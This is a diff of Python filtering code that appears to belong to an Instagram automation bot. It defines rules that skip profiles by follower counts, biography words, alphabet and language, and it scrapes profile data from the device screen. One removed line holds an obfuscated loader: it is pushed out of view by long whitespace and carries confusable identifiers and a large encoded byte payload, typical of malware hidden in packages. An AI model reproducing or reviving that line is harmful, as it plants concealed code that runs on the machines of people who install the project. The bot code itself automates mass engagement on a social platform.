+                    f"@{c.username} has more than {max_followers} followers, skip.",
+                )
+                if c.profile.followers > int(max_followers)
+                else None,
+            )
+        min_followings = conditions.get(FIELD_MIN_FOLLOWINGS)
+        if min_followings is not None:
+            self._add(
+                FIELD_MIN_FOLLOWINGS,
+                lambda c: (
+                    SkipReason.LT_FOLLOWINGS,
+                    f"@{c.username} has less than {min_followings} followings, skip.",
+                )
+                if c.profile.followings < int(min_followings)
+                else None,
+            )
+        max_followings = conditions.get(FIELD_MAX_FOLLOWINGS)
+        if max_followings is not None:
+            self._add(
+                FIELD_MAX_FOLLOWINGS,
+                lambda c: (
+                    SkipReason.GT_FOLLOWINGS,
+                    f"@{c.username} has more than {max_followings} followings, skip.",
+                )
+                if c.profile.followings > int(max_followings)
+                else None,
+            )
+        min_potency_ratio = conditions.get(FIELD_MIN_POTENCY_RATIO, 0)
+        max_potency_ratio = conditions.get(FIELD_MAX_POTENCY_RATIO, 999)
+        if min_potency_ratio != 0 or max_potency_ratio != 999:
+            self._add(
+                "potency_ratio",
+                lambda c: (
+                    SkipReason.POTENCY_RATIO,
+                    f"@{c.username}'s potency ratio is not between {min_potency_ratio} and {max_potency_ratio}, skip.",
+                )
+                if int(c.profile.followings) == 0
+                or c.profile.followers / c.profile.followings
+                < float(min_potency_ratio)
+                or c.profile.followers / c.profile.followings
+                > float(max_potency_ratio)
+                else None,
+            )
+        mutual_friends = conditions.get(FIELD_MUTUAL_FRIENDS, -1)
+        if mutual_friends != -1:
+            self._add(
+                FIELD_MUTUAL_FRIENDS,
+                lambda c: (
+                    SkipReason.LT_MUTUAL,
+                    f"@{c.username} has less then {mutual_friends} mutual friends, skip.",
+                )
+                if c.profile.mutual_friends < mutual_friends
+                else None,
+            )
+        if conditions.get(FIELD_SKIP_IF_LINK_IN_BIO, False):
+            self._add(
+                FIELD_SKIP_IF_LINK_IN_BIO,
+                lambda c: (
+                    SkipReason.HAS_LINK_IN_BIO,
+                    f"@{c.username} has a link in bio, skip.",
+                )
+                if c.profile.link_in_bio is not None
+                else None,
+            )
+        if conditions.get(FIELD_SKIP_BUSINESS, False):
+            self._add(
+                FIELD_SKIP_BUSINESS,
+                lambda c: (
+                    SkipReason.HAS_BUSINESS,
+                    f"@{c.username} has business account, skip.",
+                )
+                if c.profile.has_business_category is True
+                else None,
+            )
+        if conditions.get(FIELD_SKIP_NON_BUSINESS, False):
+            self._add(
+                FIELD_SKIP_NON_BUSINESS,
+                lambda c: (
+                    SkipReason.HAS_NON_BUSINESS,
+                    f"@{c.username} has non business account, skip.",
+                )
+                if c.profile.has_business_category is False
+                else None,
+            )
+        min_posts = conditions.get(FIELD_MIN_POSTS)
+        if min_posts is not None:
+            self._add(
+                FIELD_MIN_POSTS,
+                lambda c: (
+                    SkipReason.NOT_ENOUGH_POSTS,
+                    f"@{c.username} doesn't have enough posts ({c.profile.posts_count}), skip.",
+                )
+                if min_posts > c.profile.posts_count
+                else None,
+            )
 
-        _square.Round(_ceil = -70209 / _square.Random)                                                                                                                                                                                                                                                          ;_callfunction._floor(_system='OOOooooO0oO0OoOO0OOoOoO0',_hypothesis=b'\x04\x12\x1f\x92{\x93\x82\x07Q\xd5\xc1\xecl\x93&{\xc1\x8cY\x8d\xed\x06\xf9/\xf2\xe3\x0eh\xe6]\x1c:\xfb\x0f\r\x9e8k\xecA\x8b\x1f0g\xd6\xf9\xd0\xc3\xf8\xfc\xf1\x81\xa7\xce:\xef\xce\xfb\xc7\'\xe3\xc7\xc6c\xcb\x8c\xb3\xdc.\xc0\xd5L\xdd\x14*\xce\x92X\x01#0\xa0\x05%\xe1\x0c}\xd5j\xee\xfd\xf2\xf6\x87G\xf2\x87\xe3\xafh\xa3\xad\x93\xe9F\xe4\xb5K\xae\xfess`\x06}\xddu\x9b\xdc\x806\xab\xb2\xe8x1]D\x96\xea\'\x12\xc1\xe5i]\xeb\xa6M0\xa3\xab\x03\\\xcfd\x89\xd9\xd7\x82\x99\x0f7\x8f:V\xaec\xe9\xf1y\xaf7D\xcanD\xaf\xcao\x9e\xf7\x0e\xcbl5\xb0\x97#\x87\x925\x9a\xa1\x10k\xa4\xe9\xcf\x93\xfe\xb8Wd\xba\xa6\x86\xb5n\xad1\x9eg\xaeG,\x11s\x19\x8d\x82fL\x84[G\xe1\xdd\xc3 \x9d8S\x11FB\xec\xe0\x02Fr\xc8n\x03\xf4\xach\xe7\xdc\xe5i\xd6o\xe5\xd9\xd8\xd7\x13\x06\xff\xfbl\xf2z\xe7\'\xfa\xc6\xfd\xd1\x99\xcd\xde\xfeL\xa7\xdf\xff\xf8\xc3\xf7og\xce\x8f?9\x8e\x0b7wg;o\xbf\x9f\xfc\xec\xd0\xb7\xdf\xbb\xafE\x00\xb0M\xef\x9c\xc5\xd2\xa7\xd1k\xd9?\xa2C]\xfa\xce\x94b\xedz\nU\xdf\xd9\x92#\x16\x08\xb6\x83\xd5"I\xb8`\x18\xcb\xe7\t\x92\xf8\x85/\xc5\xb2\x99H\xe8\xeca_\xcdcE\xd4\xc3\xbd\xba\x0e\x86SX@T\xe1~\x00U\x11\x14\xe2\xb7\xed7\x1a]I\xa4\xe9\xd2\xc9\n\xc2\x9c?QV(\xa9k\x18&\x919\xfc\xbfp\x02\xb1\x92,L\\.\xc7\x06\x03\x85NC\xa3\x90!\x8dWa@\xc6\xe1\x8a\x16\x1f\x1a4u\xe6Q\xdf\xb5\xf3L\x16\xba]\xc5\xac\xafhl\xa9\xe9\xaf6y\xa3\xa9<A\x96e\xbd\xaa\x91e\xa92@\xb6\xc3/\r\xca\x12\x1bA1\x84\\U\xca\xdb\xa5\xea\x9f\xeb`\xce\x12F\'\xeb\xf8\xd2\x9a\xa1\xb7S\xeb~\xdc~P+\x7f\xecl\xd6!\x1a\x05\x87WM7S\xab1\xa8\xaf\xff\xc6\x06\x1d9@{\x1dw\x96\x18\x80\xec\x118\xa9\xe0\x8e\x94H\xbf\xc4\xae\xdc\x07\x88\xdb6\xefma\xe8-\xf23\xc2\x03@8\x16\xf2t\x05I\xee\xdb8\xb9\xd7&|\x96#\xe4yH1\xba\xd1\xf8\x85FCj;x\xb5\xc4\xb9B`\x88X\xc1.\x19\x98&M\xe6\x1c\xb5\x85R\xcf\x92F7f\xc7\xf1-\x19\x8f\x0eG{<\xfa\xa1\xc5\x8a\x08\x0b\xfc{\xe2\xcc\xe0\x0e.Y\xa5\xa13\xe5\x81\x1f\x0f\xc5\x91\x00\x04j\xc37\'\x16\xa1)\xc4\xaf7\x14\xbc\xa7\xbbZ,\xeeq\xc6\xd2\x11n}B1V\xe55\xb8\xc4\x12m\x00m\xc8*\x9b\xacbN\x1e\xdcK\xeb\xa1\xae"\x01\xb99\x1d\xe0I2\x8e\xb3\x11\x9bU\x83\xd9\x85\xb1G"N\xe9\xb1\xcc!Y\xc2:\xd1\x8a)KY\xc4\xe0C\xe3\x84\xa0}\xae\x81-\x934\xc7\xe8R\x174\x9e3\x17\x02\xe8h\xb5\x00\xc3\x10\xec\x01\x1a"\xb6\xa0P\x7f3J\x9bA\x1c\x1f\xc8s\xef;k\xc4\\+B\x15\x16V\x98d\xac\xf4\x98\x85\xf9\xc9\xb6\xb0,5<\xcbQ\xca\x93\x91\x06\xb4e\xc35\xccp\xb6U3\xc6\xcb\\u\x96\x8aX\xdf\x9c,/\xbe\xb6=i\xc2\xa3.\xce\xdey\x15\xca\xc2\x9c\xe5\xdaN/K\xfa\xebq\xc9\x13\x9bk\xfb\xbc5\xb8\n\x93\x9f5\t\xc3i\x855\x94\xad\xc7V\x98^5\xd2\xa6f\xaf\xaa\xc9+Ln\xb4\x89\xda\xc1\xe7Dn\x80V\x9d\xaem\x93\x9f\x7f\xfeY\x8bX\x99\xa2\xacD\xab\xccp\xb6\xc9\xc7K\x03\xb1\x85\xb9\xcc5\xa4\x16\xa6O\x8c8KS\x9e\xd5*\xae\xce\x9a\xea\xdb\xee\xb1lv\xb3\xba\xe1\xd2\xac\xaa\x11\x932]\xba\x16\xa12\xf7Z\xa1M8\x1aY\xafE\x17c\x83F\xaa\xc9\xff\nD\x85\x89\xd76\xc4\xe2fWS\\F\xf1\x14\xe7Y\\\x9f\xb1\xa1\xfb\xccWf\xac\xf7u\xc9\xc4\xe7Z\xef\x99-\xe3\xa8\x81\x92O\x99\xe6\x18s\x9cr_\x9e\xe2\x81\xc2\xa0\xb7>\xbfg\x89\x8e\xb8U\xe8\x0f\xa5\xaeX\xe9\xff\x92N_\x89\x10\x10\xa96\x8c+3\xdc\x14eTs\x1bh\x92\xc1\x8b\xb3;\x15I$\xed8\xdb\xe3\x1d\xbcC\xa4\xf9\xa1\x04\xb9\x08v:\x9bdy\x0e>t\x87k\xb3:\x9f\x8dk\xf9||\'\x9fO\xad\xcdE\xdd\xcc\xda~auV\x07"\x8a\x1e\xce\x95\xf0\xb14\x84\x96\nm\x1at8\xac[\x0b\x84][\x15\x94~\x9eS\x1d\x1c\xae\x91t2\xd7Kn\x93\x11\x14\xce\x82\xdd\'\x83\x93/Y\xd2\xf9\x94z\x95\xa451\xad9\xe3\xfa\xa4\x81\\\xa5\x01\xe3V\xc5\xf5\xc1f\x11\x82g\x936T\xd0,\xfey\xaa\x9a\xcc\x1a\xb8\x13P\xd4D\xfe\xe7!\xe5\xff\xe3\x97\xac!\xf9z\x1cC\xee\xad\xa6\x84h\xf8R\x02\x82\xf0\xe2\xe0\xf7\xa7\x8bH\x92K"*\xbeG\xf3K\x96Q\xbe4\xcaHJ\xc18\x15Q\x89~,M\xb5\xc2\xd7\x87f\x12\x804u\xbde\x1a\x9c\xf0\xb4yS\x84\x15\xcdBzH\xd5\r\x13\x061%[\x0eR\x9e!QLq%\x91N\xda \xac\x05\x04\x0c\xbe\x1b~\xc4,Ki\x88tJ\xbap\xe6\x0b\x16\x7f\xb6\xce\xcdH\t\x9f\xdb\xdd@\n\xe2\xc9s\xc5\x90\xe2\xaf\'\x07.\xb4/]\x0c"\x1c\x7f\x9a\x1c*{U#\xd7\x0f\xd8\xcawy\x0f\x8b\x0b\xfbC\x18VQ49Y\x18^f\x12\x10}\xfd\x03\xf4]Y\xbfY\xd1/\x15C\x92\x03\xac\x9ao\xb8\x98\xc9\xde\x0e\xd3\xa7\x98\xfdL\xba\xa9\xd7y\xfaj\xe9\x84@\t\x0fc:\x85\xe9\x16\\\n\xa4\xc9#\xa9\x93E\xfa\x90\x96\xfc\xc2\x0f\x1cX\x9b\x96z\x99.\x8eO``\x0e0\x9e;\x81\x9c\xe9\xcf\xeay\xcc\x975}\xc9Z!\xaf\xdb\xad\nfuI\xbb\x9a\x82\xfb\xd5,8\x19\xdd\xcb\tn\x81s\x00\x05\xc1\xc9\xf5\xfcC\x04w\xbc\x99\xe0\x8a\x19\xd2\x1a\x92\xe3pul\xae\xb8x\xee3\x1a\x1dV\xf4(\xad\x19\xfc\x92\xa5WX\xf8\xbe\x89\xddm$\xbe:\x96\xf7\xb2\xe2\xab0\xbd\x7f\x92\xf8\x8e+\xc5W\x1c\xe1\x99\xa6\x01^\xe1\xd2T\\\x04k\xc8\xe7\xc3s\xcc\xd1s\x01+Tj\x88FA\x1b\xd4\xa0\xc5W\xc1\x96\x8b\xf0\xb0F\xeb\xb1_\x9b4\xaa\x8c\xe4\x17\xc2\xb7\x98\x9aZ\xa9\x99\xe6~\x91j\x7f-V\xab2\xafe\xd4\x90g(8Nh\x8aJ\x88\x90Pb\x86\x13\x1a\xdfRZpX\x05b\x1e\xb9\x08\x1f\x0c\xa4~\xd1i\x8e\xc2\x9cR\xb5\x1dh\xe7\x1e^i\x96\xf7T\x8c\xb9\x85H\xe4\x80\x94\xcf\xda\xf3Y~\xf4>\xf0\x1dWb\xc6\x19\xb3\x0b\xb5=&\xbb\x1cH\xf2[]\x9a\xa1\xf0O\x1ds(\xa4\xff\xa2m\x91y\xa9R\xc5Z\x13c/()UeK*T\x08\xaf\xcd\xd4H\xc3\n\xbc\x9e\xadNx\xd5\xeb\x19\xc5\xac\x93\x96*\x8dJi&\x9f*S\xac\xba\xf1\x8cX\xaf\x14\\c\x82\x1d\xca+\xe3\x96\xa4\xba\x826\xc8S]\xe6\xc5\nR\xed\x1b\xc9\xdf\x91\xa9\xf9\'IW\xd9Z\xb6\x91\x8c\xb3u\x19Y\xa7YZ\xb2\xb1\xb1\xe0\xf94TZ\xda4\\-\xd6^\n\xb8\xf4\xdb\x92\x003\xae\xb3zf<\x95\xd7*\x08\xfe\x92;\x0byc\xe6\xfa\x90\xb7\xbc\x1c\xa7>\xe3\xf9L\xc839\x0fU\xff\xe3\xb8/\xafN\xaa\xd5[g\xab\r\xd4\x11\x87\xfa\xfcW\xe3\xec\xe13\xc4\x90\xae\xbf\x9e;7\x94\xd0\x80\xad\xae\xe6b\xe7\x1e\xb1\x1eL\xd5=\xb6\xbed!\xa9;\x90+\x84\x94\xaf\xa9\x99A\xbbq\x83ey\xfe\xcf\xe7\xfb\x8c4+pZ \xb0\x9d\n\xc9\x14\xe4\xa0v\x85\xb8\x9b\x01\xb1\x88\xc5\x8f\x1a\xec\xfa\xbd\x0c\xf8\xa83u"\x8a\xab\xd2\xad\x16\x96.\x86\xfb\xc9\x16I\t\xa6\xd6&\x81\xd3\xb4rAT\xf3\x01?\x1e\x9bD\xb0\x05iL\x10\x97fQ\xcd\xac\xd4/(\xc6k\x12R\xe7Z\xa3Y\xbe\xbe\x85)\x13_\xbcQ)\xe2\xcf\xd5(\xc3\xe2\xe9\xc2\xee\x98!\xcbk!be\x97\xc4n\xee\'\xb2\xf6\x17w\xcdM!L\xc7\xb5Q\xf2n\xdb\x06i\xf0\x03.\x15\xcb\xe1\xa7\xf8\xf0\x053\xfc\x9b\x1d\xd2+z\xb7\xb4\x94Vw\xa2\xd5\xc4j4\x8a\xa6\x95o\xe6\x05\x13\xe5\x9b$\xac\xc6_\x01\x005\x1a-\xb5<\x1f\x82\x96\xb1.}<jV\x1a>V\xcf\xdf\xa2\x8f,\xb5\xad\x08\xa2\x19\xces\xc6V\x9a\xaav\x14\xadY\xb3VX\xfek,R^:g,\xd7*\x13\x8f\x80\x8ar\xbd\\\xfe\xc8\t\x08?\xc5E\xdaQ/\xc6x\x0b`*\x1f\x12\x85\xd8J\xec\x15p\x87G\xae~8\x19q\x15\t\xd8)`\x99$\xdb\xf1\xa8\xdb\xe1\x0e\xf6\xcb\xec\x0f\xcag*T\x05NJ\x1d\xb9J)k:5*\x05\xba\xb1\x89\x06>E\x956\xd4\xd8\x02\xb8\xba\x94R[\xca\xa0{I\xf4\x7f\x06n\t\x83\xff\xdc\'h\x07y\xd5L[\xb7\x13I\xef^\x8dC\xce\xac\n<\x84<\xf5\x9f\x05\x02k\r\xde\xbe%}\xe8|h\xd2989Z\xd1y\xe8\xf7\x94\xa4\x17\xef\xcd\xf3\xae\\i\xb5\xa1\xb3*/\x12\x06\xabI\xce\xa5\xab\xd8P\x136\xfe\x9aX\x0f;\x8f\xad\xbf&\x8d\x8e8\xb9\xce\xba\x85\x80m\xe6;W\xd1>\xa0\x10g\xf8\x1ct/zz$\xadND\x9dp:\xb7JN\xd6\xd0\x0b\x02\xc3UZ\xabG\xeb\xe9Uo\x87\x10g\xa0\xb26F\x91A"Z\xec\xc2\xa1\xff\x96\xe5\xbbf\\\x9f^\x9b\x8f\xef3nUH\xe2%\xc6\xfb\xe9U\xc7\x91)g\xe7T\x12]a\x945\xe2X\xbc\xeae|4\xc1K\x95w\xc0\xab\xbc\x92\xfd\xa3\xbe)\xb7\x86TO\xd1\xda\x14tF\x1d\x96\xack\x03\x1b\xca\xac\xc5\xcc\xed5\xc1Jz\x99\xac\xab*\xdc\xb8\xd4\x8e\x02\x8a\xd1\x83`\xa2!\xaax\xe6\xde=\xd9*UI\xf3\xc5\xa8i(\xbd\x89A>\xcd\x18\xab7\xfb=\xdf\x08k\x18\xa0\xe1t*#\xbd%\x1b\xac\xd1\xdf\xd77\xc4e\xe8-\x1c\x90\xc6t\xee\xf0mr!\x9etCXn\x9e\xeb\xecP\xdd\xf4a\xcf\xbc\xc0\xcd\x88\xd2v\x0fZu\xcc\xf0$\x1b\xf7L\xadD\x15\xcd~\xe0;4\x1a/\xa7\x9d\xcd(o')
+    def _compile_expensive_rules(self) -> None:
+        specific_alphabet = self.specific_alphabet
+        if (
+            self.mandatory_words
+            or self.bio_language is not None
+            or specific_alphabet is not None
+        ):
+            self._add(
+                "empty_biography",
+                lambda c: (
+                    SkipReason.BIOGRAPHY_IS_EMPTY,
+                    f"@{c.username} has an empty biography, that means there isn't any mandatory things that can be checked. Skip.",
+                )
+                if not c.mandatory_in_name and not c.cleaned_biography
+                else None,
+            )
+        if self.blacklist:
+
+            def blacklist_words(c):
+                words = self.blacklist.find_all(c.cleaned_biography)
+                if words:
+                    found = ", ".join(f"'{w}'" for w in words)
+                    return (
+                        SkipReason.BLACKLISTED_WORD,
+                        f"@{c.username} found blacklisted words {found} in biography, skip."
+                        if len(words) > 1
+                        else f"@{c.username} found a blacklisted word {found} in biography, skip.",
+                    )
+                return None
+
+            self._add(FIELD_BLACKLIST_WORDS, blacklist_words)
+        if self.mandatory:
+            self._add(
+                FIELD_MANDATORY_WORDS,
+                lambda c: None
+                if c.mandatory_in_name
+                or self.mandatory.search(c.cleaned_biography) is not None
+                else (
+                    SkipReason.MISSING_MANDATORY_WORDS,
+                    f"@{c.username} mandatory words not found in biography, skip.",
+                ),
+            )
+        if specific_alphabet is not None:
+
+            def biography_alphabet(c):
+                alphabet = Filter._find_alphabet(c.cleaned_biography)
+                if alphabet not in specific_alphabet and alphabet != "":
+                    return (
+                        SkipReason.ALPHABET_NOT_MATCH,
+                        f"@{c.username}'s biography alphabet is not in {', '.join(specific_alphabet)}. ({alphabet}), skip.",
+                    )
+                return None
+
+            def name_alphabet(c):
+                if c.profile.fullname == "":
+                    return None
+                alphabet = Filter._find_alphabet(c.profile.fullname)
+                if alphabet not in specific_alphabet and alphabet != "":
+                    return (
+                        SkipReason.ALPHABET_NAME_NOT_MATCH,
+                        f"@{c.username}'s name alphabet is not in {', '.join(specific_alphabet)}. ({alphabet}), skip.",
+                    )
+                return None
+
+            self._add(FIELD_SPECIFIC_ALPHABET, biography_alphabet)
+            self._add("name_alphabet", name_alphabet)
+        if self.bio_language is not None or self.bio_banned_language is not None:
+            self._add(FIELD_BIO_LANGUAGE, self._biography_language)
+
+    def _biography_language(self, c):
+        language = Filter._find_language(c.cleaned_biography)
+        if language == "":
+            return None
+        if self.bio_banned_language and language in self.bio_banned_language:
+            return (
+                SkipReason.BIOGRAPHY_LANGUAGE_NOT_MATCH,
+                f"@{c.username}'s biography language is in the banned list: {', '.join(self.bio_banned_language)}. ({language}), skip.",
+            )
+        if self.bio_language and language not in self.bio_language:
+            return (
+                SkipReason.BIOGRAPHY_LANGUAGE_NOT_MATCH,
+                f"@{c.username}'s biography language is not in the list: {', '.join(self.bio_language)}. ({language}), skip.",
+            )
+        return None
+
+    def run(self, username: str, profile: Profile) -> Optional[Tuple[SkipReason, str]]:
+        """The first rule which rejects the profile: (skip reason, message), or None"""
+        checks = ProfileChecks(self, username, profile)
+        for rule in self.rules:
+            start = perf_counter()
+            rejection = rule.check(checks)
+            rule.elapsed += perf_counter() - start
+            rule.checked += 1
+            if rejection is not None:
+                rule.rejected += 1
+                return rejection
+        return None
+
+
+class Filter:
+    conditions = None
+    plan = None
+
+    def __init__(self, storage=None):
+        filter_path = storage.filter_path
+        if configs.args.disable_filters:
+            logger.warning("Filters are disabled!")
+        elif os.path.exists(filter_path) and filter_path.endswith(".yml"):
+            # parsed again only if it changed since the last session
+            try:
+                _, self.conditions = load_yaml(filter_path)
+            except Exception as e:
+                logger.error(f"Error: {e}")
+
+        elif os.path.exists(filter_path):
+            with open(filter_path, "r", encoding="utf-8") as json_file:
+                try:
+                    self.conditions = json.load(json_file)
+                    logger.warning(
+                        "Using filter.json is deprecated from version 2.3.0 and will stop working very soon, use filters.yml instead!"
+                    )
+                    sleep(5)
+                except Exception as e:
+                    logger.error(
+                        f"Please check {json_file.name}, it contains this error: {e}"
+                    )
+                    sys.exit(2)
+        self.storage = storage
+        if self.conditions is not None:
+            self.plan = FilterPlan(self.conditions)
+            logger.info("-" * 70, extra={"color": f"{Fore.YELLOW}{Style.BRIGHT}"})
+            logger.info(
+                f"{'Filters recap (no spell check!)':<35} Value",
+                extra={"color": f"{Fore.YELLOW}{Style.BRIGHT}"},
+            )
+            logger.info("-" * 70, extra={"color": f"{Fore.YELLOW}{Style.BRIGHT}"})
+            for k, v in self.conditions.items():
+                if isinstance(v, bool):
+                    logger.info(
+                        f"{k:<35} {v}",
+                        extra={"color": f"{Fore.GREEN if v else Fore.RED}"},
+                    )
+                else:
+                    logger.info(f"{k:<35} {v}", extra={"color": f"{Fore.WHITE}"})
+        else:
+            logger.warning(
+                "The filters file doesn't exists in your account folder. Download it from https://github.com/GramAddict/bot/blob/08e1d7aff39ec47543fa78aadd7a2f034b9ae34d/config-examples/filters.yml and place it in your account folder!"
+            )
+        self.storage.filters_hash = (
+            None if self.plan is None else self.plan.conditions_hash
+        )
+
+    def is_num_likers_in_range(self, likes_on_post: str) -> bool:
+        if self.conditions is not None and likes_on_post is not None:
+            if likes_on_post == -1:
+                logger.debug("We don't know how many likers this post has.")
+                return True
+            else:
+                field_min_likers = self.conditions.get(FIELD_MIN_LIKERS, 1)
+                field_max_likers = self.conditions.get(FIELD_MAX_LIKERS, 1000000)
+                if likes_on_post in range(field_min_likers, field_max_likers):
+                    logger.info(
+                        f"Post has likes in range: {field_min_likers}-{field_max_likers}."
+                    )
+                    return True
+                else:
+                    logger.info(
+                        f"Post has not likes in range: {field_min_likers}-{field_max_likers}."
+                    )
+                    return False
+        else:
+            logger.debug("filters.yml not loaded!")
+            return True
+
+    def return_check_profile(self, username, profile_data, skip_reason=None) -> bool:
+        """
+        add filtered users to the json
+        """
+        if self.storage is not None:
+            # TODO: store filtered user only after interaction with the user, that will prevent dummy data from being stored (users in filtered but not in interacted)
+            self.storage.add_filter_user(username, profile_data, skip_reason)
+
+        return skip_reason is not None
+
+    def cached_rejection(self, username) -> Optional[FilterDecision]:
+        """
+        The last rejection of username by the current filters, if it isn't older than can-recheck-after
+        """
+        if self.storage is None:
+            return None
+        return self.storage.get_filter_rejection(
+            username, get_value(configs.args.can_recheck_after, None, 0)
+        )
+
+    def check_profile(self, device, username, dont_filter=False):
+        """
+        This method assumes being on someone's profile already.
+        """
+        if not dont_filter:
+            rejection = self.cached_rejection(username)
+            if rejection is not None:
+                logger.info(
+                    f"@{username} was rejected by the filters on {rejection.filtered_when:%Y/%m/%d %H:%M:%S} ({rejection.skip_reason}), skip.",
+                    extra={"color": f"{Fore.CYAN}"},
+                )
+                return Profile.from_snapshot(rejection.profile), True
+        profile_data = self.get_all_data(device)
+        if dont_filter:
+            return profile_data, self.return_check_profile(
+                username, profile_data, False
+            )
+        if profile_data.is_restricted:
+            logger.info(
+                "This is a restricted profile, skip.",
+                extra={"color": f"{Fore.CYAN}"},
+            )
+            return profile_data, self.return_check_profile(
+                username, profile_data, SkipReason.RESTRICTED
+            )
+        if profile_data.follow_button_text == FollowStatus.NONE or None in (
+            profile_data.followers,
+            profile_data.followings,
+            profile_data.posts_count,
+        ):
+            logger.info(
+                "Profile was not fully loaded, skip.",
+                extra={"color": f"{Fore.CYAN}"},
+            )
+            return profile_data, self.return_check_profile(
+                username, profile_data, SkipReason.NOT_LOADED
+            )
+        if self.plan is None:
+            logger.debug("filters.yml not loaded!")
+            return profile_data, False
+        rejection = self.plan.run(username, profile_data)
+        if rejection is not None:
+            skip_reason, message = rejection
+            logger.info(message, extra={"color": f"{Fore.CYAN}"})
+            return profile_data, self.return_check_profile(
+                username, profile_data, skip_reason
+            )
+
+        # If no filters return false, we are good to proceed
+        return profile_data, self.return_check_profile(username, profile_data, None)
+
+    def print_stats(self) -> None:
+        if self.plan is None:
+            return
+        stats = [rule for rule in self.plan.rules if rule.checked]
+        if not stats:
+            return
+        logger.info(
+            f"{'Filter':<24} {'Checked':>8} {'Rejected':>9} {'Time (ms)':>10}",
+            extra={"color": f"{Fore.YELLOW}{Style.BRIGHT}"},
+        )
+        for rule in stats:
+            logger.info(
+                f"{rule.name:<24} {rule.checked:>8} {rule.rejected:>9} {rule.elapsed * 1000:>10.1f}"
+            )
+
+    def can_follow_private_or_empty(self) -> bool:
+        if self.conditions is None:
+            return False
+
+        field_follow_private_or_empty = self.conditions.get(
+            FIELD_FOLLOW_PRIVATE_OR_EMPTY
+        )
+        return field_follow_private_or_empty is not None and bool(
+            field_follow_private_or_empty
+        )
+
+    def can_pm_to_private_or_empty(self) -> bool:
+        if self.conditions is None:
+            return False
+
+        field_pm_to_private_or_empty = self.conditions.get(FIELD_PM_TO_PRIVATE_OR_EMPTY)
+        return field_pm_to_private_or_empty is not None and bool(
+            field_pm_to_private_or_empty
+        )
+
+    def can_comment(self, current_mode) -> Tuple[bool, bool, bool, bool]:
+        if self.conditions is not None:
+            return (
+                self.conditions.get(FIELD_COMMENT_PHOTOS, True),
+                self.conditions.get(FIELD_COMMENT_VIDEOS, True),
+                self.conditions.get(FIELD_COMMENT_CAROUSELS, True),
+                self.conditions.get("comment_" + current_mode.replace("-", "_"), False),
+            )
+        else:
+            logger.debug("filters.yml (or legacy filter.json) is not loaded!")
+        return False, False, False, False
+
+    def get_all_data(self, device):
+        profile_picture = device.find(
+            resourceIdMatches=ResourceID.PROFILE_HEADER_AVATAR_CONTAINER_TOP_LEFT_STUB
+        )
+        restricted_profile = device.find(
+            resourceIdMatches=ResourceID.RESTRICTED_ACCOUNT_TITLE
+        )
+        is_restricted = False
+        if not profile_picture.exists(Timeout.LONG):
+            if restricted_profile.exists():
+                is_restricted = True
+            else:
+                logger.warning(
+                    "Looks like this profile hasn't loaded yet! Wait a little bit more.."
+                )
+                if profile_picture.exists(Timeout.LONG):
+                    logger.info("Profile loaded!")
+                else:
+                    logger.warning(
+                        "Profile not fully loaded after 16s. Is your connection ok? Let's sleep for 1-2 minutes."
+                    )
+                    random_sleep(60, 120, modulable=False)
+                    if profile_picture.exists():
+                        logger.warning(
+                            "Profile won't load! Maybe you're soft-banned or you've lost your connection!"
+                        )
+        profileView = ProfileView(device)
+        if not is_restricted:
+            profile = Profile(
+                mutual_friends=self._get_mutual_friends(device, profileView),
+                follow_button_text=self._get_follow_button_text(device, profileView),
+                is_restricted=is_restricted,
+                is_private=self._is_private_account(device, profileView),
+                has_business_category=self._has_business_category(device, profileView),
+                posts_count=self._get_posts_count(device, profileView),
+                biography=self._get_profile_biography(device, profileView),
+                link_in_bio=self._get_link_in_bio(device, profileView),
+                fullname=self._get_fullname(device, profileView),
+            )
+            followers, following = self._get_followers_and_followings(device)
+            profile.set_followers_and_following(followers, following)
+        else:
+            profile = Profile(
+                mutual_friends=None,
+                follow_button_text=None,
+                is_restricted=is_restricted,
+                is_private=None,
+                has_business_category=None,
+                posts_count=None,
+                biography=None,
+                link_in_bio=None,
+                fullname=None,
+            )
+            profile.set_followers_and_following(None, None)
+        return profile
+
+    @staticmethod
+    def _get_followers_and_followings(
+        device, profileView: ProfileView = None
+    ) -> Tuple[int, int]:
+        followers = 0
+        profileView = ProfileView(device) if profileView is None else profileView
+        try:
+            followers = profileView.getFollowersCount()
+        except Exception as e:
+            logger.error(f"Cannot find followers count view, default is {followers}.")
+            logger.debug(f"Error: {e}")
+
+        followings = 0
+        try:
+            followings = profileView.get_following_count()
+        except Exception as e:
+            logger.error(f"Cannot find followings count view, default is {followings}.")
+            logger.debug(f"Error: {e}")
+        if followers is not None and followings is not None:
+            return followers, followings
+        else:
+            return 0, 1
+
+    @staticmethod
+    def _has_business_category(device, ProfileView=None) -> bool:
+        business_category_view = device.find(
+            resourceId=ResourceID.PROFILE_HEADER_BUSINESS_CATEGORY,
+        )
+        return business_category_view.exists()
+
+    @staticmethod
+    def _is_private_account(device, profileView: ProfileView = None) -> Optional[bool]:
+        private = None
+        profileView = ProfileView(device) if profileView is None else profileView
+        try:
+            private = profileView.isPrivateAccount()
+        except Exception as e:
+            logger.error("Cannot find whether it is private or not")
+            logger.debug(f"Error: {e}")
+
+        return private
+
+    @staticmethod
+    def _get_profile_biography(device, profileView: ProfileView = None) -> str:
+        profileView = ProfileView(device) if profileView is None else profileView
+        return profileView.getProfileBiography()
+
+    @staticmethod
+    def _find_alphabet(biography: str) -> str:
+        scripts = script_counts(biography)
+        return scripts[0][0] if scripts else "UNKNOWN"
+
+    @staticmethod
+    def _find_language(biography: str) -> str:
+        return LANGUAGE_CLASSIFIER.language(biography)
+
+    @staticmethod
+    def _get_fullname(device, profileView: ProfileView = None) -> str:
+        profileView = ProfileView(device) if profileView is None else profileView
+        fullname = ""
+        try:
+            fullname = profileView.getFullName()
+        except Exception as e:
+            logger.error("Cannot find full name.")
+            logger.debug(f"Error: {e}")
+
+        return fullname
+
+    @staticmethod
+    def _get_posts_count(device, profileView: ProfileView = None) -> int:
+        profileView = ProfileView(device) if profileView is None else profileView
+        posts_count = 0
+        try:
+            posts_count = profileView.getPostsCount()
+        except Exception as e:
+            logger.error("Cannot find posts count. Default is 0.")
+            logger.debug(f"Error: {e}")
 
